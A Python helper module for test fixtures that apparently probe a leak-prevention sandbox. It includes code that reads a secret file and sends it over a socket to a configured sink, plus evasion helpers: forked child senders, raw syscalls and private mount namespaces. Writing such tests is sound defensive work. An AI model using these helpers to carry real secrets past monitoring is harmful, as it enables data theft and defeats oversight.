"""What the fixtures of this directory share.

`python3 FILE.py --list` prints a line of JSON a fixture: name, row of docs/evasions.md, what it does, what is expected.
`python3 FILE.py NAME` does it: takes $FILE to $SINK. Its honest twin is the same act on a file that is no secret.
A fixture ends by itself, prints nothing of what it read, and fails where it could not do what it says.
"""

import ctypes
import json
import os
import signal
import socket
import sys
import traceback

LIBC = ctypes.CDLL(None, use_errno=True)
SECONDS = 15
FIXTURES = {}


def fixture(row, what, enforce="deny", audit="found", twin="pass", why=None):
    """`enforce`: `deny` (nothing of the secret leaves) or `gap` (it may, and the verdict is no PASS; `why` it cannot be
    stopped); `audit`: `found` (a leak) or `gap`; `twin`: `pass`, or `none` where the act itself is no honest one."""

    def add(act):
        FIXTURES[act.__name__] = (act, dict(row=row, what=what, enforce=enforce, audit=audit, twin=twin, why=why))
        return act

    return add


def main():
    [word] = sys.argv[1:]
    if word == "--list":
        for name, (_, told) in FIXTURES.items():
            print(json.dumps(dict(name=name, **told)))
        return
    signal.alarm(SECONDS)
    FIXTURES[word][0]()


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def path():
    return os.environ["FILE"]


def tmp(name):
    return os.path.join(os.environ["TMPDIR"], name)


def sink(port=None):
    host, own = os.environ["SINK"].rsplit(":", 1)
    return host, port or int(own)


def read(name=None):
    with open(name or path(), "rb") as file:
        return file.read()


def connect():
    return socket.create_connection(sink(), timeout=5)


def send(data):
    """As the plainest thief does."""
    if not data:
        raise SystemExit("nothing to send")
    with connect() as stream:
        stream.sendall(data)
        stream.shutdown(socket.SHUT_WR)


def child(act):
    """Another process, which never held anything; it is waited for by `wait`."""
    pid = os.fork()
    if pid:
        return pid
    code = 1
    try:
        signal.alarm(SECONDS)
        act()
        code = 0
    except BaseException:
        traceback.print_exc()
    finally:
        os._exit(code)


def wait(pid):
    _, status = os.waitpid(pid, 0)
    # A child that was stopped in the middle has not failed.
    if os.WIFEXITED(status) and os.WEXITSTATUS(status):
        raise SystemExit(1)


def between(make, give, take):
    """A child takes what its parent, who alone reads the file, gives it by what `make` makes before."""
    at = make()
    pid = child(lambda: send(take(at)))
    give(at, read())
    wait(pid)


def call(number, *arguments):
    """A system call of x86_64 by its number."""
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    LIBC.syscall.restype = ctypes.c_long
    result = LIBC.syscall(ctypes.c_long(number), *words)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def mount(source, target, kind=None, flags=0, data=None):
    text = lambda value: value.encode() if value else None
    if LIBC.mount(text(source), text(target), text(kind), ctypes.c_ulong(flags), text(data)) < 0:
        raise OSError(ctypes.get_errno(), "mount")


def own_mounts():
    CLONE_NEWNS, MS_REC, MS_PRIVATE = 0x20000, 0x4000, 1 << 18
    if LIBC.unshare(CLONE_NEWNS) < 0:
        raise OSError(ctypes.get_errno(), "unshare")
    mount(None, "/", None, MS_REC | MS_PRIVATE)
